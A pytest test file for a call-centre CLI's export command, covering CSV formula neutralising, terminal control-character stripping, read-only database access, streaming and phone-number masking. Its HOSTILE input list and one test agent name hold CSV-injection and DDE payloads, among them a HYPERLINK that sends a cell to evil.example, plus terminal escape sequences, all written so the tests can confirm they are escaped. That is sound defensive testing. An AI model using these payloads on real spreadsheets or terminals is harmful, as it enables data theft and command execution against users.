"""Issue #9, items 11, 12, 13 and 16 through the real CLI: exports that are safe to open in
a spreadsheet and to print, that never write to the database, that stream, and that mask
numbers typed into free text."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import sqlite3
import stat
from pathlib import Path

import pendulum
import pytest
from click.testing import CliRunner, Result

from tui.cli import main
from tui.domain.calls import Call
from tui.store.calls import save_call
from tui.store.complaints import open_complaint
from tui.store.db import Store
from tui.store.migrations import apply_migrations, known_migrations

START = pendulum.datetime(2026, 11, 24, 1, 0, tz="UTC")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "clip \x1b]52;c;ZXZpbA==\x07 then \x1b[2J cleared",
    "nul \x00 here, c1 \x9b31m red",
]


def seed(path: Path, notes: list[str], *, agent: str = "林", caller: str = "13812345678") -> None:
    async def go() -> None:
        store = await Store.open(path)
        for n, note in enumerate(notes):
            at = START.add(minutes=n)
            call = Call(
                f"c{n:04d}", agent, at, at.add(minutes=1), caller, "inq.billing.balance",
                "answered", "calm", 5, note,
            )  # fmt: skip
            await save_call(store, call)
        await store.close()

    asyncio.run(go())


def run(*args: str, **kwargs: object) -> Result:
    return CliRunner().invoke(main, list(args), **kwargs)  # type: ignore[arg-type]


def cells(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


# ---------------------------------------------------------------- item 11: CSV safety


def test_formula_cells_are_neutralised_as_owasp_says(tmp_db: Path) -> None:
    seed(tmp_db, HOSTILE[:6], agent="=cmd|' /C calc'!A0")
    result = run("export", "calls", "--db", str(tmp_db), "--unmask")
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert [row["note"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A2)",
        "'\t=1+1",
        "\\x0d=1+1",
    ]
    assert {row["agent"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    # Numbers stay numbers: satisfaction is 5, not '5.
    assert {row["satisfaction"] for row in rows} == {"5"}


@pytest.mark.parametrize("fmt", ["csv", "json", "ndjson"])
def test_control_characters_never_reach_the_terminal(tmp_db: Path, fmt: str) -> None:
    seed(tmp_db, HOSTILE[6:])
    result = run("export", "calls", "--db", str(tmp_db), "--format", fmt)
    assert result.exit_code == 0, result.output
    raw = result.stdout_bytes
    for byte in (b"\x1b", b"\x00", b"\x07", b"\xc2\x9b", b"\r"):
        assert byte not in raw, (fmt, byte)
    if fmt == "csv":
        notes = [row["note"] for row in cells(result.stdout)]
        assert notes[0] == "clip \\x1b]52;c;ZXZpbA==\\x07 then \\x1b[2J cleared"
        assert notes[1] == "nul \\x00 here, c1 \\x9b31m red"
    else:
        # JSON keeps the exact text, written as escapes.
        lines = result.stdout.splitlines()
        records = json.loads(result.stdout) if fmt == "json" else [json.loads(x) for x in lines]
        assert [r["note"] for r in records] == HOSTILE[6:]


def test_bom_for_excel_only_when_asked(tmp_db: Path) -> None:
    seed(tmp_db, ["客户 고객"])
    plain = run("export", "calls", "--db", str(tmp_db))
    with_bom = run("export", "calls", "--db", str(tmp_db), "--bom")
    assert not plain.stdout_bytes.startswith(b"\xef\xbb\xbf")
    assert with_bom.stdout_bytes.startswith(b"\xef\xbb\xbfid,started_at,")
    assert with_bom.stdout_bytes[3:] == plain.stdout_bytes
    refused = run("export", "calls", "--db", str(tmp_db), "--bom", "--format", "json")
    assert refused.exit_code == 2 and "--bom is for --format csv only" in refused.stderr


def test_booleans_are_true_and_false(tmp_db: Path) -> None:
    from tui.domain.deadline_rules import load_rules
    from tui.domain.deadlines import make_promise
    from tui.services.complaints import rules_path

    async def go() -> None:
        rules = load_rules(rules_path())
        store = await Store.open(tmp_db)
        form = {"customer_name": "王", "contact": "13812345678", "class_code": "simple",
                "what_happened": "x"}  # fmt: skip
        await open_complaint(
            store, form, make_promise(rules, "simple", START).due, rules.revision, "Lin", START
        )
        await store.close()

    asyncio.run(go())
    result = run("export", "complaints", "--db", str(tmp_db))
    (row,) = cells(result.stdout)
    assert row["escalated"] == "false"
    assert json.loads(run("export", "complaints", "--db", str(tmp_db), "--format", "ndjson")
                      .stdout)["escalated"] is False  # fmt: skip


@pytest.mark.parametrize(
    ("args", "path"),
    [
        ([], "Inquiry › Bills and charges › Balance"),
        (["--lang", "zh"], "查询咨询 › 话费账单 › 余额查询"),
        (["--lang", "ko"], "조회 문의 › 요금 조회 › 잔액 조회"),
    ],
)
def test_reason_path_follows_lang(tmp_db: Path, args: list[str], path: str) -> None:
    seed(tmp_db, [""])
    result = run("export", "calls", "--db", str(tmp_db), *args)
    assert cells(result.stdout)[0]["reason_path"] == path


def test_reason_path_follows_the_groups_lang(tmp_db: Path) -> None:
    seed(tmp_db, [""])
    result = run("--lang", "zh", "export", "calls", "--db", str(tmp_db))
    assert cells(result.stdout)[0]["reason_path"].startswith("查询咨询")


def test_output_file_is_owner_only(tmp_db: Path, tmp_path: Path) -> None:
    seed(tmp_db, ["note"])
    target = tmp_path / "calls.csv"
    target.write_text("old")
    target.chmod(0o644)
    result = run("export", "calls", "--db", str(tmp_db), "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert cells(target.read_text(encoding="utf-8"))[0]["note"] == "note"
    fresh = tmp_path / "fresh.ndjson"
    run("export", "calls", "--db", str(tmp_db), "-o", str(fresh), "--format", "ndjson")
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_output_into_a_missing_folder_is_one_line(tmp_db: Path, tmp_path: Path) -> None:
    seed(tmp_db, ["note"])
    result = run("export", "calls", "--db", str(tmp_db), "-o", str(tmp_path / "no" / "x.csv"))
    assert result.exit_code == 1
    assert result.stderr.count("\n") == 1 and "does not exist" in result.stderr


# ---------------------------------------------------------------- item 12: read-only


def fingerprint(path: Path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), stat.S_IMODE(path.stat().st_mode)


def one_line(result: Result, code: int, path: Path, words: str) -> None:
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output and result.stdout == ""
    assert result.stderr.count("\n") == 1, result.stderr
    assert str(path) in result.stderr and words in result.stderr, result.stderr


def test_a_zero_byte_file_stays_zero_bytes(tmp_path: Path) -> None:
    path = tmp_path / "empty.sqlite3"
    path.touch(mode=0o644)
    before = fingerprint(path)
    for kind in ("calls", "complaints", "events", "breaks"):
        one_line(run("export", kind, "--db", str(path)), 4, path, "holds no agentdesk data")
    assert path.stat().st_size == 0 and fingerprint(path) == before


def test_an_older_database_is_not_migrated(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"

    async def old() -> None:
        import aiosqlite

        async with aiosqlite.connect(path) as conn:
            await apply_migrations(conn, known_migrations()[:2])

    asyncio.run(old())
    path.chmod(0o644)
    before = fingerprint(path)
    one_line(run("export", "calls", "--db", str(path)), 2, path, "older agentdesk")
    assert fingerprint(path) == before, "not migrated, mode unchanged"
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"


def test_a_newer_database_is_refused(tmp_db: Path) -> None:
    seed(tmp_db, ["x"])
    with sqlite3.connect(tmp_db) as conn:
        conn.execute("INSERT INTO schema_migrations (version, name) VALUES (99, 'future')")
    before = fingerprint(tmp_db)
    one_line(run("export", "calls", "--db", str(tmp_db)), 2, tmp_db, "newer agentdesk")
    assert fingerprint(tmp_db) == before


def test_a_current_database_is_read_without_a_write(tmp_db: Path) -> None:
    seed(tmp_db, ["x"])
    before = fingerprint(tmp_db)
    assert run("export", "calls", "--db", str(tmp_db)).exit_code == 0
    assert fingerprint(tmp_db) == before


def test_not_sqlite_and_missing(tmp_path: Path) -> None:
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(os.urandom(8192))
    one_line(run("export", "calls", "--db", str(junk)), 4, junk, "not an SQLite database")
    missing = tmp_path / "none.sqlite3"
    one_line(run("export", "events", "--db", str(missing)), 2, missing, "no database at")
    assert not missing.exists()


def test_an_unreadable_file(tmp_db: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads a 0000 file anyway")
    seed(tmp_db, ["x"])
    tmp_db.chmod(0)
    one_line(run("export", "calls", "--db", str(tmp_db)), 5, tmp_db, "cannot open")


# ---------------------------------------------------------------- item 13: streaming


def test_ndjson_and_a_streamed_json_array(tmp_db: Path) -> None:
    seed(tmp_db, ["a", "b", "c"])
    nd = run("export", "calls", "--db", str(tmp_db), "--format", "ndjson")
    assert nd.exit_code == 0, nd.output
    lines = nd.stdout.splitlines()
    assert [json.loads(line)["note"] for line in lines] == ["a", "b", "c"]
    array = run("export", "calls", "--db", str(tmp_db), "--format", "json").stdout
    assert [r["note"] for r in json.loads(array)] == ["a", "b", "c"]
    assert array.count("\n") == 5, "one record per line inside the array"


def test_an_empty_export_still_has_its_header_and_array(tmp_db: Path) -> None:
    seed(tmp_db, [])
    assert run("export", "calls", "--db", str(tmp_db)).stdout.startswith("id,started_at,")
    assert json.loads(run("export", "calls", "--db", str(tmp_db), "--format", "json").stdout) == []


def _peak_of_export(path: Path) -> int:
    import tracemalloc

    tracemalloc.start()
    try:
        result = run("export", "calls", "--db", str(path), "-o", os.devnull)
        assert result.exit_code == 0, result.output
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_the_number_of_calls(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tui.store import exports

    # Both sizes span many chunks, so what is measured is growth, not one chunk's size.
    monkeypatch.setattr(exports, "CHUNK_ROWS", 200)
    small, large = tmp_path / "small.sqlite3", tmp_path / "large.sqlite3"
    for path, count in ((small, 2_000), (large, 20_000)):
        seed(path, [])
        with sqlite3.connect(path) as conn:
            conn.executemany(
                "INSERT INTO calls VALUES (?, 'a', ?, ?, '13800000000', 'inq.billing.balance',"
                " 'answered', 'calm', 5, 'note with some words in it')",
                (
                    (f"id{i:08d}", f"2026-01-01T00:00:{i:08d}", f"2026-01-01T00:01:{i:08d}")
                    for i in range(count)
                ),
            )
    _peak_of_export(small)  # imports and first-use caches are not what is measured
    # Ten times the calls: a list of every record would take ten times the memory.
    small_peak = _peak_of_export(small)
    assert _peak_of_export(large) < small_peak * 1.5 + 512 * 1024


# ---------------------------------------------------------------- item 16: masking


def test_numbers_in_notes_are_masked_unless_unmask(tmp_db: Path) -> None:
    seed(tmp_db, ["请回电 139 8765 4321, 2026-03-08 前, 退款 1200 元"], caller="12345678")
    masked = cells(run("export", "calls", "--db", str(tmp_db)).stdout)[0]
    assert masked["note"] == "请回电 1** **** 4321, 2026-03-08 前, 退款 1200 元"
    assert masked["caller"] == "****5678"
    full = cells(run("export", "calls", "--db", str(tmp_db), "--unmask").stdout)[0]
    assert full["note"] == "请回电 139 8765 4321, 2026-03-08 前, 退款 1200 元"
    assert full["caller"] == "12345678"


def test_numbers_in_complaint_text_and_register_entries_are_masked(tmp_db: Path) -> None:
    from tui.domain.deadline_rules import load_rules
    from tui.domain.deadlines import make_promise
    from tui.services.complaints import rules_path
    from tui.store.complaints import append_event

    async def go() -> None:
        rules = load_rules(rules_path())
        store = await Store.open(tmp_db)
        form = {
            "customer_name": "王小明",
            "contact": "13812345678",
            "class_code": "simple",
            "what_happened": "客户另一个号码 13911112222",
            "remedy_requested": "打 010-8765-4321 回电",
        }
        due = make_promise(rules, "simple", START).due
        cid = await open_complaint(store, form, due, rules.revision, "Lin", START)
        await append_event(store, cid, "note", "Lin", START.add(minutes=5),
                           {"text": "又打来, 留了 13700003333"})  # fmt: skip
        await store.close()

    asyncio.run(go())
    complaints = run("export", "complaints", "--db", str(tmp_db), "--format", "ndjson").stdout
    events = run("export", "events", "--db", str(tmp_db)).stdout
    for number in ("13911112222", "8765", "13700003333", "13812345678"):
        assert number not in complaints and number not in events
    row = json.loads(complaints)
    assert row["what_happened"] == "客户另一个号码 1******2222"
    assert row["remedy_requested"] == "打 0**-****-4321 回电"
    full = run("export", "events", "--db", str(tmp_db), "--unmask").stdout
    assert "13700003333" in full and "13911112222" in full


@pytest.mark.parametrize(
    ("language", "args", "path"),
    [
        ("ko", [], "조회 문의 › 요금 조회 › 잔액 조회"),
        ("zh", [], "查询咨询 › 话费账单 › 余额查询"),
        ("ko", ["--lang", "en"], "Inquiry › Bills and charges › Balance"),
    ],
)
def test_reason_path_is_in_the_agents_configured_language(
    tmp_db: Path, tmp_path: Path, language: str, args: list[str], path: str
) -> None:
    seed(tmp_db, [""])
    config = tmp_path / "config.toml"
    config.write_text(f'language = "{language}"\n', encoding="utf-8")
    result = run("--config", str(config), "export", "calls", "--db", str(tmp_db), *args)
    assert result.exit_code == 0, result.output
    assert cells(result.stdout)[0]["reason_path"] == path
